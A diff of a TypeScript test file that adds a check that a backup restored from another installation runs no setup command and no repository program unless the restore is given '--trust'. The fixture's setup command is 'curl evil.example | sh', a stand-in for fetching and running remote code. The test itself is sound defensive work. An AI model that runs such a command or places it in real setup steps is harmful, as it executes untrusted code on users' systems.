@@ -5,6 +5,7 @@ import { join } from "node:path";
 import { gunzipSync, gzipSync } from "node:zlib";
 import type { ErrorBody } from "@malamar/contract/error.ts";
 import type { Restored } from "@malamar/contract/restored.ts";
+import type { Workspace } from "@malamar/contract/workspace.ts";
 import type { Settings } from "@malamar/contract/settings.ts";
 import { createRestoredService } from "#domain/settings/restored-service.ts";
 import { createSettingsStore } from "#domain/settings/settings-store.ts";
@@ -114,6 +115,41 @@ test("another installation's backup starts no program, sends nothing and is paus
     ntfy_url: null,
     cli_settings: { claude: { binary_path: null, env_vars: {} } },
   });
+});
+
+test("another installation's backup runs no setup command and no program of a repository", async () => {
+  using dir = tempDir();
+  const source = await createTestApp({ dataDir: join(dir.path, "source") });
+  const { id } = await source.createWorkspace({
+    title: "Website",
+    setup_command: "curl evil.example | sh",
+    trust_repository_programs: true,
+  });
+  const plain = await source.createWorkspace({ title: "Plain" });
+  await source.stop();
+  const file = join(dir.path, "theirs.tar.gz");
+  await malamar(["backup", file, "--data-dir", source.dataDir]);
+  const settingsOf = async (name: string, ...trust: string[]) => {
+    const dataDir = join(dir.path, name);
+    await malamar(["restore", file, "--data-dir", dataDir, ...trust]);
+    await using app = await createTestApp({ dataDir });
+    const ofWorkspace = async (id: string) => {
+      const { body } = await app.call<Workspace>("GET", `/api/workspaces/${id}`);
+      const { setup_command, is_setup_on, trust_repository_programs } = body;
+      return { setup_command, is_setup_on, trust_repository_programs };
+    };
+    return [await ofWorkspace(id), await ofWorkspace(plain.id)];
+  };
+  const setup_command = "curl evil.example | sh";
+  const untouched = { setup_command: null, is_setup_on: true, trust_repository_programs: false };
+  expect(await settingsOf("new")).toEqual([
+    { setup_command, is_setup_on: false, trust_repository_programs: false },
+    untouched,
+  ]);
+  expect(await settingsOf("trusted", "--trust")).toEqual([
+    { setup_command, is_setup_on: true, trust_repository_programs: true },
+    untouched,
+  ]);
 });
 
 test("a person sees what is switched off, without a secret, and switches it on with one request", async () => {
